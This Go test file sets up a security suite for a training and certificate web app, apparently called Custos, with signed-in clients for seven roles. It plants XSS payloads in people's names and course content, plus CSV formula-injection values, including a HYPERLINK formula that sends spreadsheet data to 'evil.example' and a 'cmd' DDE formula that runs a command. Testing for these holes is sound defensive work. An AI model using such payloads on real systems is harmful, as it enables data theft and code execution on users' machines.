package security_test

import (
	"bytes"
	"context"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/uptrace/bun"

	"custos/app/api"
	"custos/app/apptest"
	"custos/app/config"
	"custos/app/dbtest"
	"custos/app/demo"
	"custos/app/people"
	"custos/app/training"
)

// The payloads of the suite: each breaks out of HTML text, an attribute, a script or a link
// when a page prints it unescaped.
const (
	svgPayload    = `"><svg onload=alert(1)>`
	scriptPayload = `</script><script>alert(1)</script>`
	linkPayload   = `javascript:alert(1)`
)

var payloads = []string{svgPayload, scriptPayload, linkPayload}

// role is who the matrix sends a request as.
type role int

const (
	anonymous    role = iota
	stranger          // José García: an employee in another team who owns none of what is probed
	owner             // 张伟: his certificate, signature and quiz attempt are probed
	manager           // 王强: 张伟's manager (and, above Sarah, everyone's in Sales too)
	otherManager      // Sarah Johnson: manages another team, not 张伟's
	auditor
	admin
)

var roles = []role{anonymous, stranger, owner, manager, otherManager, auditor, admin}

func (r role) String() string {
	return [...]string{"anonymous", "stranger", "owner", "manager", "other-manager", "auditor", "admin"}[r]
}

var roleEmail = map[role]string{
	stranger: "jose.garcia@example.com", owner: "zhang.wei@example.com", manager: "manager@example.com",
	otherManager: "sarah.johnson@example.com", auditor: "auditor@example.com", admin: "admin@example.com",
}

// hostile is a person whose name and department are payloads.
type hostile struct {
	email, name, department string
}

// The form person is added through the admin form, with a password, and completes the hostile
// course; the others come in through the HR import.
var (
	formPerson   = hostile{"xss.form@example.com", svgPayload, scriptPayload}
	importPeople = []hostile{
		{"xss.script@example.com", scriptPayload, linkPayload},
		{"xss.link@example.com", linkPayload, svgPayload},
		{"formula.link@example.com", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "@SUM(1+1)"},
		{"formula.cmd@example.com", `+cmd|' /C calc'!A0`, "-2+3"},
	}
)

const hostilePassword = "hostile but long enough"

// hostileCourse is the slug of the course in CUSTOS_CONTENT_DIR whose title, summary, lesson and
// undertaking carry the payloads in every way the loader accepts.
const hostileCourse = "hostile-content"

// world is a whole Custos with the demo company, the hostile people and course, and a browser
// (and an API token) signed in for every role. Building it signs in seven times, which argon2id
// makes the slow part, so each dialect builds one and every check shares it.
type world struct {
	env     *apptest.Env
	dialect string
	as      map[role]*apptest.Client
	tokens  map[role]string
	// hostileClient is the form person, signed in.
	hostileClient *apptest.Client
	ids           ids
}

// ids are the values the matrix fills route parameters with, read from the demo data.
type ids struct {
	ownerID          int64
	ownerCert        string // serial of 张伟's customer-information certificate
	ownerCode        string // its verification code
	ownerSignature   int64
	ownerAttempt     int64
	reportCert       string // Sarah's certificate: her manager 王强 may read it, her report José may not
	reportSignature  int64  // Aoife's signature: Sarah's report, 王强's indirect report
	failedAttempt    int64  // Emma's failed attempt
	hostileCert      string // the form person's certificate of the hostile course
	hostileSig       int64
	throwawayID      int64 // a person the CSRF controls may change
	throwawayToken   int64
	grantAssignment  int64 // Emma's, for a forged grant of another quiz attempt
	remindAssignment int64 // 刘洋's overdue one, for a forged reminder
}

// forEachDialect builds a world per available database and runs f on it, the dialects side by
// side: building a world is mostly waiting on one core.
func forEachDialect(t *testing.T, f func(t *testing.T, w *world)) {
	dbtest.Each(t, func(t *testing.T, u string, _ *bun.DB) {
		t.Parallel()
		dialect := "sqlite"
		if !strings.HasPrefix(u, "sqlite://") {
			dialect = "postgres"
		}
		f(t, newWorld(t, u, dialect))
	})
}

func newWorld(t *testing.T, dbURL, dialect string) *world {
	t.Helper()
	ctx := context.Background()
	dir := hostileContent(t)
	env := apptest.New(t, dbURL, func(c *config.Config) { c.ContentDir = dir })
	if _, err := demo.Load(ctx, env.App); err != nil {
		t.Fatalf("demo: %v", err)
	}
	w := &world{env: env, dialect: dialect, as: map[role]*apptest.Client{}, tokens: map[role]string{}}
	for _, r := range roles {
		c := env.Client()
		if r == anonymous {
			c.Get(t, "/login") // a session and a CSRF token, so refusals are about the role
		} else {
			c.SignIn(t, roleEmail[r], demo.Password)
			c.Get(t, "/")
		}
		w.as[r] = c
	}
	w.addHostilePeople(t)
	if _, err := training.Schedule(ctx, env.DB(), env.App.Audit, env.App.Catalog, env.App.Now(), nil); err != nil {
		t.Fatal(err)
	}
	w.completeHostileCourse(t)
	w.readIDs(t)
	return w
}

// hostileContent writes a content folder with one course whose every text carries the payloads
// in the ways Markdown allows: escaped in headings, as code, as plain text.
func hostileContent(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	title := strings.Join(payloads, " ")
	toml := fmt.Sprintf(`title = { en = %q, zh-Hans = %q }
summary = { en = %q, zh-Hans = %q }
recurrence = "P12M"
window_days = 30
scope = { departments = [], roles = [] }
undertaking = "hostile"

[[lesson]]
file = "01-payloads"
`, "Hostile "+title, "恶意 "+title, "Summary "+title, "摘要 "+title)
	lesson := "# Lesson \\\"\\>\\<svg onload=alert(1)\\>\n\n" +
		"Shown as code: `" + svgPayload + "` and `" + scriptPayload + "`.\n\n" +
		"Plain text: " + linkPayload + "\n\n" +
		"```\n" + scriptPayload + "\n```\n"
	undertaking := "# Undertaking \\<svg onload=alert(1)\\>\n\nI will not run `" + scriptPayload + "`, nor " + linkPayload + ".\n"
	files := map[string]string{
		"courses/" + hostileCourse + "/course.toml":                    toml,
		"courses/" + hostileCourse + "/lessons/01-payloads.en.md":      lesson,
		"courses/" + hostileCourse + "/lessons/01-payloads.zh-Hans.md": lesson,
		"courses/undertakings/hostile.en.md":                           undertaking,
		"courses/undertakings/hostile.zh-Hans.md":                      undertaking,
	}
	for name, data := range files {
		writeFile(t, filepath.Join(dir, name), data)
	}
	return dir
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// addHostilePeople adds the form person through the admin form and the others through the HR
// import, both as the admin, all reporting to 王强.
func (w *world) addHostilePeople(t *testing.T) {
	t.Helper()
	a := w.as[admin]
	a.Get(t, "/admin/people/new")
	r := a.Post(t, "/admin/people", url.Values{"email": {formPerson.email}, "name": {formPerson.name},
		"department": {formPerson.department}, "manager_email": {roleEmail[manager]}, "role": {"employee"},
		"locale": {"en"}, "time_zone": {"Asia/Shanghai"}, "active": {"1"}, "password": {hostilePassword}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("admin form with a hostile name: status %d\n%s", r.Status, r.Body)
	}
	var csv strings.Builder
	csv.WriteString("email,name,department,manager_email,role,locale\r\n")
	for _, p := range importPeople {
		fmt.Fprintf(&csv, "%s,%s,%s,%s,employee,en\r\n", p.email, csvCell(p.name), csvCell(p.department), roleEmail[manager])
	}
	a.Get(t, "/admin/people/import")
	r = upload(t, a, "/admin/people/import", a.CSRF(), "people.csv", []byte(csv.String()))
	if r.Status != http.StatusOK || !strings.Contains(r.Body, `class="notice"`) {
		t.Fatalf("HR import of hostile names: status %d\n%s", r.Status, r.Body)
	}
}

func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// upload posts file as the multipart field "file", as the import form does.
func upload(t *testing.T, c *apptest.Client, path, csrf, name string, file []byte) *apptest.Response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	mw.WriteField("_csrf", csrf)
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(file)
	mw.Close()
	req, _ := http.NewRequest(http.MethodPost, "http://custos.test"+path, &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return c.Do(t, req)
}

var (
	lessonTimer = regexp.MustCompile(`name="opened" value="(\d+)">\s*<input type="hidden" name="sig" value="([0-9a-f]+)"`)
	versionIn   = regexp.MustCompile(`name="version" value="([0-9a-f]+)"`)
)

// completeHostileCourse signs the form person in, reads the hostile lesson and signs the hostile
// undertaking with the hostile name typed, which issues a certificate.
func (w *world) completeHostileCourse(t *testing.T) {
	t.Helper()
	c := w.env.Client()
	c.SignIn(t, formPerson.email, hostilePassword)
	w.hostileClient = c
	lesson := "/courses/" + hostileCourse + "/lessons/1"
	page := c.Get(t, lesson)
	m := lessonTimer.FindStringSubmatch(page.Body)
	if page.Status != http.StatusOK || m == nil {
		t.Fatalf("hostile lesson: status %d, no completion form\n%s", page.Status, page.Body)
	}
	if r := c.Post(t, lesson, url.Values{"opened": {m[1]}, "sig": {m[2]}}); r.Status != http.StatusSeeOther {
		t.Fatalf("read the hostile lesson: status %d\n%s", r.Status, r.Body)
	}
	sign := "/courses/" + hostileCourse + "/sign"
	page = c.Get(t, sign)
	v := versionIn.FindStringSubmatch(page.Body)
	if v == nil {
		t.Fatalf("hostile undertaking: no signing form\n%s", page.Body)
	}
	r := c.Post(t, sign, url.Values{"version": {v[1]}, "agree": {"1"}, "full_name": {formPerson.name}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("sign with a hostile name: status %d\n%s", r.Status, r.Body)
	}
}

// readIDs finds the records the matrix probes, and gives every role an API token.
func (w *world) readIDs(t *testing.T) {
	t.Helper()
	ctx, db := context.Background(), w.env.DB()
	person := func(email string) *people.Person {
		p, err := people.ByEmail(ctx, db, email)
		if err != nil {
			t.Fatalf("%s: %v", email, err)
		}
		return p
	}
	scan := func(what string, dst any, query string, args ...any) {
		t.Helper()
		if err := db.NewRaw(query, args...).Scan(ctx, dst); err != nil {
			t.Fatalf("find %s: %v", what, err)
		}
	}
	zhang, sarah, aoife, emma, hostilePerson := person(roleEmail[owner]), person(roleEmail[otherManager]),
		person("aoife.obrien@example.com"), person("emma.wilson@example.com"), person(formPerson.email)
	w.ids.ownerID = zhang.ID
	row := struct {
		Serial string `bun:"serial"`
		Code   string `bun:"code"`
	}{}
	scan("张伟's certificate", &row, "SELECT serial, code FROM certificates WHERE person_id = ? AND course = 'customer-information'", zhang.ID)
	w.ids.ownerCert, w.ids.ownerCode = row.Serial, row.Code
	scan("Sarah's certificate", &w.ids.reportCert, "SELECT serial FROM certificates WHERE person_id = ? ORDER BY id LIMIT 1", sarah.ID)
	scan("the hostile certificate", &w.ids.hostileCert, "SELECT serial FROM certificates WHERE person_id = ?", hostilePerson.ID)
	scan("张伟's signature", &w.ids.ownerSignature, "SELECT id FROM signatures WHERE person_id = ? ORDER BY id LIMIT 1", zhang.ID)
	scan("Aoife's signature", &w.ids.reportSignature, "SELECT id FROM signatures WHERE person_id = ? ORDER BY id LIMIT 1", aoife.ID)
	scan("the hostile signature", &w.ids.hostileSig, "SELECT id FROM signatures WHERE person_id = ?", hostilePerson.ID)
	scan("张伟's attempt", &w.ids.ownerAttempt, "SELECT id FROM quiz_attempts WHERE person_id = ? AND passed ORDER BY id LIMIT 1", zhang.ID)
	scan("Emma's failed attempt", &w.ids.failedAttempt, "SELECT id FROM quiz_attempts WHERE person_id = ? AND NOT passed ORDER BY id LIMIT 1", emma.ID)
	w.ids.throwawayID = person("formula.cmd@example.com").ID
	scan("Emma's assignment", &w.ids.grantAssignment, "SELECT id FROM assignments WHERE person_id = ? AND course = 'customer-information'", emma.ID)
	scan("刘洋's overdue assignment", &w.ids.remindAssignment, "SELECT id FROM assignments WHERE person_id = ? AND course = 'customer-information'",
		person("liu.yang@example.com").ID)

	err := db.RunInTx(ctx, nil, func(ctx context.Context, tx bun.Tx) error {
		for _, r := range roles[1:] {
			_, secret, err := api.CreateToken(ctx, tx, person(roleEmail[r]).ID, "security suite", w.env.App.Now())
			if err != nil {
				return err
			}
			w.tokens[r] = secret
		}
		tok, _, err := api.CreateToken(ctx, tx, person(roleEmail[admin]).ID, "to revoke", w.env.App.Now())
		w.ids.throwawayToken = tok.ID
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// api sends an API request as r with r's bearer token (none for anonymous).
func (w *world) api(t *testing.T, r role, method, path string, body []byte) *apptest.Response {
	t.Helper()
	req, _ := http.NewRequest(method, "http://custos.test"+path, bytes.NewReader(body))
	if r != anonymous {
		req.Header.Set("Authorization", "Bearer "+w.tokens[r])
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	return w.env.Client().Do(t, req)
}
